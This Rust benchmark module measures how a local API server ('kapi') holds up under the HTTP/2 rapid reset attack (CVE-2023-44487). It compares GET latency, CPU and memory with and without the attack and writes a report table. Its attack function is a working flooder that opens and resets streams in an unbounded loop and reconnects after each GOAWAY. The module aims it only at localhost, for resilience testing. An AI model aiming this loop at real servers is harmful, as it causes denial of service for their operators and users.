//! HTTP/2 rapid reset (CVE-2023-44487): an attacker opens streams and resets each at once, so
//! that the server starts work it never finishes. Measured here: authenticated GET latency and
//! kapi's CPU and memory while a client sends `streams` HEADERS+RST_STREAM pairs, unauthenticated
//! (kapi answers it GOAWAY after its first answer, as kube) and with a client certificate
//! (hyper's h2 bounds reset streams per connection), each beside the same GETs without attack.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use http::{Method, StatusCode};
use rustls::pki_types::ServerName;
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use crate::stats::{ms, Samples};
use crate::{check, drive, Kapi};

struct Plan {
    /// How long each attack lasts.
    seconds: u64,
    gets: usize,
}

impl Plan {
    fn new(quick: bool) -> Self {
        if quick {
            Plan { seconds: 1, gets: 100 }
        } else {
            Plan { seconds: 10, gets: 2_000 }
        }
    }
}

/// What one attack did.
struct Attack {
    streams: usize,
    connections: usize,
    took: Duration,
}

/// Opens and resets streams as fast as the server lets it, reconnecting whenever the server
/// ends the connection, until `stop`.
async fn attack(addr: String, tls: Arc<rustls::ClientConfig>, stop: Arc<AtomicBool>) -> Result<Attack, String> {
    let streams = usize::MAX;
    let started = Instant::now();
    let (mut sent, mut connections) = (0, 0);
    while sent < streams && !stop.load(Ordering::Relaxed) {
        let tcp = TcpStream::connect(&addr).await.map_err(|e| format!("connect: {e}"))?;
        let name = ServerName::try_from("localhost").map_err(|e| e.to_string())?;
        let stream = TlsConnector::from(tls.clone()).connect(name, tcp).await.map_err(|e| format!("TLS: {e}"))?;
        connections += 1;
        let Ok((mut client, conn)) = h2::client::handshake(stream).await else { continue };
        let mut driver = tokio::spawn(conn);
        let mut closed = false;
        while sent < streams && !stop.load(Ordering::Relaxed) {
            // Wait for the server to let another stream open (its concurrency limit); a closed
            // connection ends this one.
            client = match client.clone().ready().await {
                Ok(client) => client,
                Err(_) => {
                    closed = true;
                    break;
                }
            };
            let request = http::Request::get("https://localhost/api/v1/namespaces/default/configmaps").body(()).map_err(|e| e.to_string())?;
            match client.send_request(request, true) {
                Ok((_, mut stream)) => {
                    stream.send_reset(h2::Reason::CANCEL);
                    sent += 1;
                }
                Err(_) => {
                    closed = true;
                    break;
                }
            }
            // Let the connection task write the frames out (and notice a GOAWAY).
            if sent % 64 == 0 {
                tokio::task::yield_now().await;
                if driver.is_finished() {
                    closed = true;
                    break;
                }
            }
        }
        if !closed {
            // A last request answered means the server has read every frame before it.
            if let Ok(mut client) = client.ready().await {
                let request = http::Request::get("https://localhost/version").body(()).map_err(|e| e.to_string())?;
                if let Ok((answer, _)) = client.send_request(request, true) {
                    let _ = tokio::time::timeout(Duration::from_secs(30), answer).await;
                }
            }
        }
        let _ = tokio::time::timeout(Duration::from_millis(100), &mut driver).await;
        driver.abort();
    }
    Ok(Attack { streams: sent, connections, took: started.elapsed() })
}

async fn gets(kapi: &Kapi, n: usize) -> Result<Samples, String> {
    drive(&kapi.target, n, 4, |mut conn, _| async move {
        let (status, body) = conn.send(Method::GET, "/api/v1/namespaces/default", None).await?;
        check(status, StatusCode::OK, &body, "GET namespace")?;
        Ok(conn)
    })
    .await
}

/// One attack beside GETs: (GET latencies, kapi CPU seconds per wall second, RSS MiB after, the attack).
async fn under_attack(kapi: &Kapi, plan: &Plan, authenticated: bool) -> Result<(Samples, f64, f64, Attack), String> {
    let pki = kapi.data.join("pki");
    let read = |f: &str| std::fs::read_to_string(pki.join(f)).map_err(|e| format!("{f}: {e}"));
    let mut roots = rustls::RootCertStore::empty();
    for cert in rustls_pemfile::certs(&mut read("ca.crt")?.as_bytes()) {
        roots.add(cert.map_err(|e| e.to_string())?).map_err(|e| e.to_string())?;
    }
    let builder = rustls::ClientConfig::builder().with_root_certificates(roots);
    let mut tls = if authenticated {
        let chain = rustls_pemfile::certs(&mut read("admin.crt")?.as_bytes()).collect::<Result<Vec<_>, _>>().map_err(|e| e.to_string())?;
        let key = rustls_pemfile::private_key(&mut read("admin.key")?.as_bytes()).map_err(|e| e.to_string())?.ok_or("no key")?;
        builder.with_client_auth_cert(chain, key).map_err(|e| e.to_string())?
    } else {
        builder.with_no_client_auth()
    };
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let stop = Arc::new(AtomicBool::new(false));
    let cpu0 = kapi.cpu_seconds();
    let wall = Instant::now();
    let attacker = tokio::spawn(attack(kapi.target.addr.clone(), Arc::new(tls), stop.clone()));
    // The GETs run while the attack does, batch after batch, until its time is up.
    let mut all = Vec::new();
    let mut elapsed = Duration::ZERO;
    let until = wall + Duration::from_secs(plan.seconds);
    while Instant::now() < until {
        let samples = gets(kapi, plan.gets / 10).await?;
        elapsed += samples.elapsed;
        all.extend(samples.values().iter().copied());
        if attacker.is_finished() {
            break;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let attack = attacker.await.map_err(|e| e.to_string())??;
    let cpu = (kapi.cpu_seconds() - cpu0) / wall.elapsed().as_secs_f64();
    Ok((Samples::with(all, elapsed), cpu, kapi.memory().0, attack))
}

/// The section's report.
pub async fn run(bin: &std::path::Path, quick: bool) -> Result<String, String> {
    let plan = Plan::new(quick);
    let kapi = Kapi::start(bin)?;
    kapi.wait_ready().await?;
    let mut report = format!(
        "## HTTP/2 rapid reset\n\nFor {} s an attacker opens and immediately resets streams as fast as it can (HEADERS then RST_STREAM, reconnecting whenever kapi ends its connection) while another client runs authenticated GETs of a Namespace over HTTP/1.1 (4 connections); each attack beside the same GETs without one, on one kapi.\n\n| phase | GET p50 | GET p99 | kapi CPU (cores) | kapi RSS | streams reset | attacker connections | streams per connection |\n|---|---|---|---|---|---|---|---|\n",
        plan.seconds
    );
    let cpu0 = kapi.cpu_seconds();
    let wall = Instant::now();
    let quiet = gets(&kapi, plan.gets).await?;
    let quiet_cpu = (kapi.cpu_seconds() - cpu0) / wall.elapsed().as_secs_f64();
    report.push_str(&format!(
        "| no attack | {} | {} | {:.2} | {:.0} MiB | - | - | - |\n",
        ms(quiet.percentile(0.5)),
        ms(quiet.percentile(0.99)),
        quiet_cpu,
        kapi.memory().0
    ));
    for (label, authenticated) in [("unauthenticated attacker", false), ("authenticated attacker", true)] {
        let (samples, cpu, rss, attack) = under_attack(&kapi, &plan, authenticated).await?;
        report.push_str(&format!(
            "| {label} | {} | {} | {cpu:.2} | {rss:.0} MiB | {} ({:.0}/s) | {} | {:.0} |\n",
            ms(samples.percentile(0.5)),
            ms(samples.percentile(0.99)),
            attack.streams,
            attack.streams as f64 / attack.took.as_secs_f64().max(1e-9),
            attack.connections,
            attack.streams as f64 / attack.connections.max(1) as f64
        ));
    }
    let (rss, hwm) = kapi.memory();
    report.push_str(&format!("\nkapi RSS after both attacks {rss:.0} MiB (peak {hwm:.0} MiB).\n\n"));
    Ok(report)
}
